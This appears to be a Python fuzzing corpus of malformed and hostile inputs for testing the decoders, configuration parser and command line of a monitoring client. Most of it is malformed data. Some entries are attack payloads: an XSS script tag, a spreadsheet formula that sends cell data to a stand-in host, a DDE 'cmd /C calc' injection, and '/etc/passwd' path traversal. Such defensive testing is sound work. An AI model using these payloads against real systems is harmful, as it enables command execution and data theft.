"""What has names among the hostile inputs. Large ones are made when they are asked for."""

import json
from collections.abc import Callable, Mapping
from typing import Final

SENTENCES: Final[Mapping[str, str]] = {
    "direction overrides": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "HTML": "<b>bold</b><script>alert(1)</script>&lt;",
    "Qt rich text with a remote image": '<qt><img src="http://192.0.2.1/seen.png"><a href="file:///etc/passwd">x</a></qt>',
    "ANSI escapes": "\x1b[2J\x1b]0;title\x07\x1b[31mred\x1b[0m\x9b31m\x90q\x9c",
    "notification mark-up": '<b>b</b><img src="http://192.0.2.1/a.png" alt="a"/><a href="http://192.0.2.1">x</a>&amp;',
    "CSV formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "CSV formula with a plus": "+1+cmd|' /C calc'!A0",
    "CSV formula with a minus": "-2+3",
    "CSV formula with an at": "@SUM(1,1)",
    "CSV formula after a tab": "\t=1+1",
    "CSV formula after a line end": "\r\n=1+1",
    "NUL and other controls": "a\x00b\x01\x08\x0b\x7f\x85",
    "line ends of all kinds": "a\r\nb\nc\rd\u2028e\u2029f",
    "zero widths": "\ufeffad\u200bm\u00adin\u2060",
    "tags and private use": "\U000e0041\U000e007f\ue000\U0010ffff",
    "combining without end": "a" + "\u0301" * 3_000,
    "lone surrogates": "\ud800 \udfff",
    "long": "x" * 1_000_000,
    "braces and percents": "{0} {name} %s %n %(key)s {{}}",
    "paths": "../../../etc/passwd\x00.png",
}
"""Text that a server may put wherever it may put text."""


def _in_a_frame(kind: str, data: object) -> bytes:
    return json.dumps({"type": kind, "data": data}).encode()


def _deep(opening: bytes, closing: bytes, depth: int = 200_000) -> bytes:
    return opening * depth + b"1" + closing * depth


_SERVICE = {"service": "a", "status": "healthy", "dependencies": [{"name": "DB", "status": "healthy"}]}
_EVENT = {"id": "1", "timestamp": "2026-01-01T00:00:00Z", "entity_id": "DB", "event_type": "x", "seq": 1, "epoch": "e"}

INPUTS: Final[Mapping[str, bytes]] = {
    "health": json.dumps(_SERVICE).encode(),
    "a health frame": _in_a_frame("health_update", _SERVICE),
    "an event frame": _in_a_frame("events_update", [_EVENT]),
    "a statistics frame": _in_a_frame("stats_update", {"metrics": {"g": {"n": 1.5}}, "alerts": []}),
    "a snapshot": json.dumps({"type": "initial_data", "epoch": "e", "seq": 1, "data": {"health": _SERVICE}}).encode(),
    "events": json.dumps([_EVENT]).encode(),
    "alerts": json.dumps([{"id": "a", "level": "critical", "message": "m", "status": "active"}]).encode(),
    "no type": b'{"kind":"health_update","data":{"status":"ok","dependencies":[]}}',
    "a type too many": b'{"type":"health_update","type":null,"data":{"status":"ok","dependencies":[]}}',
    "an event frame without a type": b'{"kind":"events_update","data":[{"id":"1","event_type":"x"}]}',
    "empty": b"",
    "invalid UTF-8": b'{"type": "pong", "x": "\xff\xfe\xc0\x80\xed\xa0\x80"}',
    "a cut UTF-8 character": b'{"type": "\xe2\x82',
    "lone surrogates": b'{"type": "error", "message": "\\ud800 \\udfff \\ud83d"}',
    "NaN and infinities": b'{"metrics": {"g": {"a": NaN, "b": Infinity, "c": -Infinity, "d": 1e999}}}',
    "huge integers": b'{"type": "pong", "epoch": "e", "seq": ' + b"9" * 10_000 + b"}",
    "a huge exponent": b'{"type": "pong", "epoch": "e", "seq": 1e-99999999999, "x": 1E99999999999}',
    "negative seq": b'[{"id": "1", "seq": -1, "epoch": "e", "timestamp": "0000-00-00T99:99:99Z"}]',
    "duplicate keys": b'{"type": "pong", "type": "error", "message": "a", "message": [1], "data": 1, "data": []}',
    "times out of range": b'[{"id": "1", "timestamp": "9999-12-31T23:59:59.999999-23:59"}, '
    b'{"id": "2", "timestamp": "0001-01-01T00:00:00+23:59"}]',
    "deep arrays": _deep(b"[", b"]"),
    "deep objects": _deep(b'{"data":', b"}"),
    "deep, never closed": b"[" * 200_000,
    "half a character where nobody looks": b'{"status":"ok","dependencies":[],"other":"\xff"}',
    "as deep as it may be": b'{"type":"health_update","data":{"status":"ok","dependencies":[{"name":"a","deep":'
    + _deep(b"[", b"]", 950)
    + b"}]}}",
    "an event as deep as it may be": b'{"type":"events_update","data":[{"id":"1","event_type":"x","attributes":'
    + _deep(b"[", b"]", 950)
    + b"}]}",
    "DEL": b'{"type":"events_update","data":[{"id":"1","event_type":"x","attributes":{"a":"\x7f","\x7f":1}}]}',
    "many names": json.dumps({"dependencies": {f"s{n}": {"status": "ok"} for n in range(20_000)}}).encode(),
    "a byte order mark": b"\xef\xbb\xbf" + json.dumps(_SERVICE).encode(),
    "UTF-16": json.dumps(_SERVICE).encode("utf-16"),
    "HTML": b"<!DOCTYPE html><html><head><title>Log in</title></head></html>",
    "numbers as names": b'{"type": 1, "data": {"dependencies": [{"name": 5, "status": true}]}}',
    **{f"sentence: {name}": _in_a_frame("error", text)[:4_000_000] for name, text in SENTENCES.items()},
    **{
        f"everywhere: {name}": _in_a_frame(
            "initial_data",
            {
                "health": {
                    "service": text,
                    "status": text,
                    "dependencies": [{"name": text, "status": text, "error": text}],
                },
                "statistics": {"metrics": {text: {text: 1}, "e": {"error": text}}},
                "events": [{"id": text, "timestamp": text, "entity_id": text, "event_type": text, "message": text}],
            },
        )
        for name, text in SENTENCES.items()
        if name != "long"
    },
}
"""For every decoder; also the seeds of the mutations."""

CONFIGURATIONS: Final[Mapping[str, bytes]] = {
    "good": b'[[endpoint]]\nname = "A"\nurl = "http://127.0.0.1:8004"\nkey = "env:KEY"\n\n[connection]\njitter = 0.5\n',
    "everything": b'[notices]\nquiet_hours = "22:00-07:00"\n[history]\ndays = 90\n[agent]\ncpu = [85.0, 95.0]\n'
    b'[[agent.check]]\nname = "W"\nkind = "command"\ntarget = ["true"]\ninterval = 10.0\ntimeout = 5.0\n',
    "deep": b"a = " + b"[" * 100_000,
    "deep tables": b"[" + b"a." * 2_000 + b"a]\n",
    "dotted keys": b"a" + b".a" * 2_000 + b" = 1\n",
    "1 MiB of dotted keys": b"a" + b".a" * 500_000 + b" = 1\n",
    "dotted keys of 200 parts": b"".join(b"a%d" % n + b".a" * 200 + b" = 1\n" for n in range(300)),
    "huge integers": b"[history]\ndays = " + b"9" * 20_000 + b"\n",
    "NaN": b"[connection]\njitter = nan\nbackoff_initial = inf\npoll_interval = -inf\n",
    "invalid UTF-8": b'[[endpoint]]\nname = "\xff"\n',
    "NUL": b'[[endpoint]]\nname = "a\x00"\n',
    "duplicate keys": b"[history]\ndays = 1\ndays = 2\n",
    "a strange URL": b'[[endpoint]]\nname = "A"\nurl = "http://[::1%25eth0]:99999/\\u202e?a#b"\n',
    "overrides": b'[[endpoint]]\nname = "\\u202egnp"\nurl = "http://a"\n',
    "a date": b"[connection]\njitter = 1979-05-27T07:32:00Z\n",
}

COMMAND_LINES: Final[Mapping[str, bytes]] = {
    "watch": b"watch\0--url\0http://127.0.0.1:8004\0--json\0--for\x005",
    "check": b"check\0--timeout\x001\0--config\0a.toml",
    "export": b"export\0events\0--since\x0024h\0--until\x002030-01-01T00:00Z\0--format\0csv",
    "agent": b"agent\0--host\0::1\0--port\x000",
    "key": b"key\0set\0A",
    "numbers": b"watch\0--for\x00nan\0--for\x00inf\0--for\x001e400\0--for\x00-1",
    "times": b"export\0health\0--since\x0099999d\0--until\x009999-12-31T23:59:59-23:59",
    "overrides": b"key\0set\0\xe2\x80\xaegnp",
    "no UTF-8": b"key\0delete\0\xff\xfe",
    "half an option": b"--conf\0x\0--\0-",
}

LARGE: Final[Mapping[str, Callable[[], bytes]]] = {
    "100 MB of text": lambda: b'{"type": "error", "message": "' + b"x" * 100_000_000 + b'"}',
    "100 MB of numbers": lambda: b'{"type": "stats_update", "data": [' + b"1," * 50_000_000 + b"1]}",
}
